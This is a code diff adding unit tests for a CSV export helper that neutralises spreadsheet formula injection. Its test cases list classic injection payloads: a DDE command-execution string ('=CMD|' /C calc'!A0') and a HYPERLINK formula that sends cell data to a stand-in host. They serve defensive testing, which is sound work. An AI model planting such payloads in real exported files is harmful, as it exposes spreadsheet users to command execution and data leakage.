@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { commonRange, domainQuery, domainsFromFields } from "../src/lib/api";
-import { BOM, csvField, parseCsv, toCsv } from "../src/lib/csv";
+import { BOM, csvField, neutraliseFormula, parseCsv, toCsv } from "../src/lib/csv";
 import { formatBare, formatBase, formatChange, formatValue } from "../src/lib/format";
 import { decodeToken } from "../src/lib/jwt";
 import { STATUS_COLOR, statusColor, UNJUDGED_COLOR } from "../src/lib/kpi";
@@ -137,6 +137,53 @@ describe("CSV export", () => {
     expect(csvField("=HYPERLINK(1)")).toBe("'=HYPERLINK(1)");
     expect(csvField("-1.50")).toBe("-1.50");
     expect(csvField(3)).toBe("3");
+  });
+  it("neutralises the usual formula-injection list (issue 14): a leading ' unless a plain number", () => {
+    const cases: [string, string][] = [
+      ["=CMD|' /C calc'!A0", "'=CMD|' /C calc'!A0"],
+      ["+1+1", "'+1+1"],
+      ["-2+3", "'-2+3"],
+      ["@SUM(A1)", "'@SUM(A1)"],
+      ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`],
+      ["=1+2;=3", "'=1+2;=3"],
+      ["-", "'-"],
+      ["+", "'+"],
+      ["-1e5+cmd", "'-1e5+cmd"],
+      ["\t=1+1", "'\t=1+1"],
+      ["\tplain", "'\tplain"],
+      ["\r=1+1", "'\r=1+1"],
+      // plain numbers stay numbers
+      ["-12.5", "-12.5"],
+      ["-0", "-0"],
+      ["+3", "+3"],
+      ["-0.00", "-0.00"],
+      ["-.5", "-.5"],
+      ["1e-5", "1e-5"],
+      ["97.12", "97.12"],
+      // text that does not start a formula is unchanged, Chinese included
+      ["鄂温克族自治旗", "鄂温克族自治旗"],
+      ["呼伦贝尔市 = 150700", "呼伦贝尔市 = 150700"],
+      ["a-b", "a-b"],
+      ["", ""],
+    ];
+    for (const [input, out] of cases) expect([input, neutraliseFormula(input)]).toEqual([input, out]);
+    // in the file: quoted where needed, and read back as the neutralised text
+    const csv = toCsv(
+      ["地区名称", "值"],
+      [
+        ["=CMD|' /C calc'!A0", "-12.5"],
+        ["\r=1+1", -0.5],
+        ["-2+3", "鄂温克族自治旗"],
+      ],
+    );
+    expect(csv).toBe(
+      `${BOM}地区名称,值\r\n'=CMD|' /C calc'!A0,-12.5\r\n"'\r=1+1",-0.5\r\n'-2+3,鄂温克族自治旗\r\n`,
+    );
+    expect(parseCsv(csv).slice(1)).toEqual([
+      ["'=CMD|' /C calc'!A0", "-12.5"],
+      ["'\r=1+1", "-0.5"],
+      ["'-2+3", "鄂温克族自治旗"],
+    ]);
   });
 });
 
